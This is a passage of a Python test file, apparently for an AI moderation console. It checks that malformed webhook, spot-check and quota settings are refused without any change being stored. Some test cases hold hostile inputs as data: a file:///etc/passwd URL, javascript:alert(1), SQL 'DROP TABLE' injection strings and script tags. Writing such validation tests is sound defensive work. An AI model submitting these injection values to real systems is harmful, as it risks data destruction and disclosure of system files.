        print(f"whole prompt scan, {ADVERSARIAL_CHARS:,} characters of {name}: {shape['total_ms']:.0f} ms "
              f"({', '.join(f'{k[:-3]} {v:.0f} ms' for k, v in scanners.items())})")


# --- alert webhooks (issue 25, item 5) -----------------------------------------------------------------------

WEBHOOK_OK = {"name": "ops", "kind": "json", "url": "https://hooks.example.com/services/T0/B0/tok",
              "alert_kinds": ["slo_breach"], "secret": None}
BAD_WEBHOOKS = [
    ("ftp-url", {"url": "ftp://hooks.example.com/x"}, "URL: only http:// and https://"),
    ("file-url", {"url": "file:///etc/passwd"}, "URL: only http:// and https://"),
    ("javascript-url", {"url": "javascript:alert(1)"}, "URL: only http:// and https://"),
    ("no-scheme", {"url": "hooks.example.com/x"}, "URL: only http:// and https://"),
    ("empty-url", {"url": "   "}, "URL: enter the webhook's address"),
    ("no-host", {"url": "https:///x"}, "URL: the address needs a host name"),
    ("bad-port", {"url": "https://h:0x50/x"}, "URL: the port must be a number"),
    ("nul-in-url", {"url": "https://h/x\x00y"}, "URL: no spaces or control characters"),
    ("megabyte-url", {"url": "https://h/" + "a" * MB}, "URL: at most 2,000 characters"),
    ("empty-name", {"name": ""}, "Name: enter a name"),
    ("long-name", {"name": "n" * 81}, "Name: at most 80 characters"),
    ("nul-name", {"name": "a\x00b"}, "Name: no control characters"),
    ("unknown-body", {"kind": "teams"}, "Body format: one of json, slack"),
    ("no-kinds", {"alert_kinds": []}, "Alert kinds: choose at least one"),
    ("unknown-kind", {"alert_kinds": ["slo_breach", "<b>all</b>"]}, "Alert kinds: unknown kind"),
    ("short-secret", {"secret": "abc"}, "Signing secret: 8 to 200 characters"),
    ("megabyte-secret", {"secret": "s" * MB}, "Signing secret: 8 to 200 characters"),
]


@pytest.mark.parametrize("change,fragment", cases("webhook", BAD_WEBHOOKS))
def test_a_bad_webhook_is_refused_with_a_clear_message_and_nothing_is_stored(world, change, fragment):
    with refused(world, fragment, InvalidInput):
        alerts_svc.create_webhook(world.ctx, world.people["ada"], **(WEBHOOK_OK | change))
    assert alerts_svc.list_webhooks(world.ctx, world.people["ada"]) == []


# --- spot-check rules (issue 25, item 3) -----------------------------------------------------------------------

BAD_SPOT_CHECK_RULES = [
    ("share-over-100", {"share_percent": 150}, "Share: a percentage above 0 and at most 100, got 150"),
    ("share-zero", {"share_percent": 0}, "Share: a percentage above 0"),
    ("share-nan", {"share_percent": float("nan")}, "Share"),
    ("share-text", {"share_percent": "5%"}, "Share"),
    ("cap-negative", {"daily_cap": -5}, "Daily cap: a whole number of items from 1 to 10,000, got -5"),
    ("cap-huge", {"daily_cap": 10**9}, "Daily cap"),
    ("cap-fraction", {"daily_cap": 2.5}, "Daily cap"),
    ("version-unknown", {"model_version": "no-such-model'; DROP TABLE exchanges; --"}, "is not a registered version"),
    ("version-blank", {"model_version": " \u200b"}, "Model version"),
    ("family-unknown", {"family": "<b>spam</b>"}, "Label family: one of pii, toxicity, injection"),
]


@pytest.mark.parametrize("changes,fragment", cases("spot-check-rule", BAD_SPOT_CHECK_RULES))
def test_a_bad_spot_check_rule_is_refused_naming_the_field_and_no_rule_changes(world, changes, fragment):
    from console.services import spot_checks as spot_svc

    before = spot_svc.list_rules(world.ctx, world.people["ada"])
    with refused(world, fragment, InvalidInput):
        spot_svc.set_rule(world.ctx, world.people["ada"], **{"share_percent": 1, "daily_cap": 20, **changes})
    assert spot_svc.list_rules(world.ctx, world.people["ada"]) == before


# --- quotas and rate limits (issue 25, item 4) ----------------------------------------------------------------

BAD_QUOTAS = [
    ("negative", ("operator", "requests_per_minute", -1), "cannot be negative"),
    ("huge-requests", ("operator", "requests_per_minute", 10**12), "more than the largest allowed"),
    ("huge-tokens", ("operator", "tokens_per_day", 10**15), "more than the largest allowed"),
    ("fraction", ("operator", "requests_per_minute", 2.5), "is not a whole number"),
    ("text", ("operator", "requests_per_minute", "ten"), "is not a whole number"),
    ("sql-text", ("operator", "tokens_per_day", "1; DROP TABLE quota_limits"), "is not a whole number"),
    ("megabyte-text", ("operator", "tokens_per_day", "9" * MB), "is not a whole number"),
    ("bool", ("operator", "requests_per_minute", True), "is not a whole number"),
    ("unknown-kind", ("operator", "<b>per_hour</b>", 5), "Unknown limit"),
    ("unknown-role", ("<script>root</script>", "requests_per_minute", 5), "Unknown role"),
]


@pytest.mark.parametrize("args,fragment", cases("quota", BAD_QUOTAS))
def test_a_bad_quota_is_refused_naming_the_limit_and_no_limit_changes(world, args, fragment):
    from console.services import quotas as quotas_svc

    ada = world.people["ada"]
    before = quotas_svc.role_defaults(world.ctx, ada)
    with refused(world, fragment, InvalidInput):
        quotas_svc.set_role_limit(world.ctx, ada, *args)
    users = quotas_svc.quota_overview(world.ctx, ada)
    if args[0] == "operator":  # the same limit and value as one user's override
        with refused(world, fragment, InvalidInput):
            quotas_svc.set_user_override(world.ctx, ada, users[0].user_id, args[1], args[2])
    assert quotas_svc.role_defaults(world.ctx, ada) == before
    assert quotas_svc.quota_overview(world.ctx, ada) == users


# --- the end: nothing seeded was lost, normal work goes on, the chain verifies ------------------------------------


def test_normal_work_still_succeeds_after_the_battery(world):
    item = _reviewable_item(world)
    assert review.decide(world.ctx, world.people["rita"], item, "false_positive", note="fine", share=0.0).item_id == item
    assert review.item_view(world.ctx, world.people["rita"], world.open_item).status == "open"
    assert promotion_svc.get_request(world.ctx, world.people["ada"], world.request_id).status == "pending"
    assert auth.login(world.ctx, "olga", STRONG_PASSWORD).username == "olga"
    assert len(chat_svc.conversation_history(world.chat, world.people["olga"], world.conversation_id)) == 1
    report = audit_svc.verify(world.ctx, world.people["ana"])
    assert report.ok


def test_the_seeded_rows_are_unchanged_and_the_audit_chain_verifies_at_the_end(world):
    assert _snapshot(world) == world.seeded
    report = audit_q.verify_chain(world.db)
    assert report.ok, report
